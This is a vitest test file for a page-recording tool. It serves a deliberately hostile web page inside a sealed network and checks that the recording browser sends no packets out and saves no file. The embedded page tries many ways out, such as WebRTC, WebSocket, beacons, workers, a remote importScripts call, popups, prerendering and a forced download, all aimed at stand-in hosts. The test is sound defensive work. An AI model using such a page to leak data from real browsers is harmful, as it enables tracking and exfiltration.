// @module-tag long
import type {ChildProcess} from 'node:child_process';
import {once} from 'node:events';
import {chmodSync, existsSync, mkdtempSync, readFileSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {createInterface} from 'node:readline';
import {text} from 'node:stream/consumers';
import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import type {Recording} from '../app/page/recording.ts';
import {root} from '../main/setup/command.mjs';
import {openSealedNetwork, type SealedNetwork, whyNotSealed} from './sealedNetwork.ts';
import {whySkipped} from './window.ts';

// Records a hostile page in a network whose only way out records every packet. The page's own server is in the network,
// too. Whatever the page tries, its browser must send nothing. Only the gateway sends requests, after it has checked
// the address.

const why = whySkipped || whyNotSealed;

describe.skipIf(why !== '')(`the browser that records a hostile page${why}`, () => {
  let network: SealedNetwork;
  let server: ChildProcess;
  let port = '';
  const folder = mkdtempSync(join(tmpdir(), 'interleave-hostile-'));
  const asked: string[] = [];

  beforeAll(async () => {
    // as root, the browser runs as another user
    chmodSync(folder, 0o711);
    network = await openSealedNetwork();
    // the gateway asks only public addresses, so the server has one, within the network only
    const adding = network.spawn('ip', ['address', 'add', `${PUBLIC}/32`, 'dev', 'lo'], {stdio: 'inherit'});
    await once(adding, 'exit');
    server = network.spawn(process.execPath, ['-e', SERVER], {stdio: ['ignore', 'pipe', 'inherit']});
    const lines = createInterface({input: server.stdout ?? process.stdin});
    [port] = (await once(lines, 'line')) as [string];
    lines.on('line', line => asked.push(line));
  });
  afterAll(() => {
    server?.kill('SIGKILL');
    network?.close();
    rmSync(folder, {recursive: true, force: true});
  });

  test('sends nothing by itself, asks only through the gateway, and leaves nothing behind', async () => {
    const out = join(folder, 'page');
    const args = ['fetch', '--with-browser', `http://${PUBLIC}:${port}/`, '--out', out, '--json'];
    const env = {...process.env, HOME: folder, TMPDIR: folder, XDG_CACHE_HOME: folder};
    const program = join(root, 'main/cli/interleave.mjs');
    const fetching = network.spawn(process.execPath, [program, ...args], {cwd: folder, env});
    const said = fetching.stderr === null ? '' : text(fetching.stderr);
    fetching.stdout?.resume();
    const [code] = await once(fetching, 'exit');
    expect(code, await said).toBe(0);
    expect(network.packets).toEqual([]);
    // everything that the browser did not ask the gateway for went to the closed proxy
    for (const line of network.proxied) expect(line).toMatch(/^(CONNECT|GET|POST|HEAD|OPTIONS) /);
    // the page ran: its last script says what it had tried
    expect(asked).toContain('GET /tried?webrtc,websocket,worker,popup,download,beacon,prefetch,transport');
    expect(asked.filter(line => line.includes('service-worker-fetch'))).toEqual([]);
    const recording = JSON.parse(readFileSync(join(out, 'files/recording.json'), 'utf8')) as Recording<string>;
    expect(recording.requests.length).toBeGreaterThan(2);
    expect(existsSync(join(folder, 'stolen.txt'))).toBe(false);
  });
});

/** An address of the public Internet. No packet leaves the network of this test. */
const PUBLIC = '20.20.20.20';

/** The source of the page's server, which prints its port, and then each request. */
const SERVER = `
const page = \`<!doctype html><title>hostile</title>
<link rel=dns-prefetch href=//prefetched.example><link rel=preconnect href=//198.18.250.1>
<link rel=prefetch href=http://198.18.250.2/prefetch><link rel=prerender href=http://198.18.250.3/>
<script type=speculationrules>{"prerender": [{"urls": ["http://198.18.250.4/", "/speculated"]}]}</script>
<img src=http://198.18.250.5/pixel.gif><iframe src=http://198.18.250.6/></iframe>
<a id=link href=/stolen.txt download>x</a>
<script>
const tried = [];
const attempt = (name, work) => { try { work(); } catch {} tried.push(name); };
attempt('webrtc', () => {
  const peer = new RTCPeerConnection({iceServers: [{urls: ['stun:198.18.250.7:3478', 'stun:name.example']}]});
  peer.createDataChannel('x');
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
});
attempt('websocket', () => { new WebSocket('ws://198.18.250.8/'); new WebSocket('wss://name.example/'); new EventSource('http://198.18.250.9/'); });
attempt('worker', () => {
  new Worker('/worker.js');
  new SharedWorker('/worker.js');
  navigator.serviceWorker?.register('/service-worker.js');
});
attempt('popup', () => { open('http://198.18.250.10/'); open('/popup'); });
attempt('download', () => document.getElementById('link').click());
attempt('beacon', () => { navigator.sendBeacon('http://198.18.250.11/', 'x'); fetch('http://198.18.250.12/', {keepalive: true, mode: 'no-cors'}); });
attempt('prefetch', () => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'https://name2.example'; document.head.append(link); });
attempt('transport', () => { new WebTransport('https://198.18.250.13/'); });
setTimeout(() => fetch('/tried?' + tried), 500);
</script>\`;
const worker = "fetch('http://198.18.250.14/').catch(() => {}); importScripts('http://198.18.250.15/x.js');";
const serviceWorker = "self.onfetch = event => event.respondWith(fetch('/service-worker-fetch'));";
require('node:http').createServer(({method, url}, response) => {
  console.log(method, url);
  const [type, body] = url === '/' ? ['text/html', page] : url === '/worker.js' ? ['text/javascript', worker]
    : url === '/service-worker.js' ? ['text/javascript', serviceWorker] : ['text/plain', 'x'];
  response.writeHead(200, {'content-type': type}).end(body);
}).listen(0, function () { console.log(this.address().port); });
`;
